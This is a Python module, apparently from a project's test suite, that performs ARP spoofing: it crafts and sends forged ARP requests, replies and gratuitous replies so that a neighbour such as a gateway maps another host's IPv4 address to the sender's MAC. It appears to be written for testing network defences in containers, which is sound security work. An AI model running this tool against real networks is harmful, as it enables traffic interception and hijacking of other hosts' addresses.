# SPDX-License-Identifier: Apache-2.0
"""Claim an IPv4 address of somebody else by ARP (RFC 826), in all three ways in which a neighbour may believe it."""

import argparse
import ipaddress
import struct

from tests.attacks import packet

ETH_P_ARP = 0x0806
REQUEST, REPLY = 1, 2


def claim(interface: str, address: str, told: str, mac: str | None = None) -> None:
    """Say by `interface` to the neighbour `told` (an IPv4 address) that `address` is at `mac`, or at the interface's
    own: a request, a reply, and a gratuitous reply."""
    own = mac if mac is not None else packet.mac_of(interface)
    packet.send(
        interface,
        message(own, packet.BROADCAST, REQUEST, address, told),
        message(own, packet.BROADCAST, REPLY, address, told),
        message(own, packet.BROADCAST, REPLY, address, address),
    )


def message(mac: str, to: str, operation: int, sender: str, target: str) -> bytes:
    """A frame with an ARP message from `mac`, in which `sender` is at `mac`."""
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation)
    body += packet.mac(mac) + ipaddress.IPv4Address(sender).packed
    body += (packet.mac(to) if operation == REPLY else bytes(6)) + ipaddress.IPv4Address(target).packed
    return packet.ethernet(mac, to, ETH_P_ARP, body.ljust(46, b"\0"))


def main() -> None:
    """Claim an address once."""
    parser = argparse.ArgumentParser(prog="python -m tests.attacks.arp", description=__doc__)
    parser.add_argument("interface", help="the container's interface, e.g. eth1")
    parser.add_argument("address", help="the address to claim")
    parser.add_argument("told", help="the neighbour who is to believe it, e.g. the gateway")
    given = parser.parse_args()
    claim(given.interface, given.address, given.told)
    print(f"told {given.told} that {given.address} is at {packet.mac_of(given.interface)}: see `ip neighbour` there")


if __name__ == "__main__":
    main()
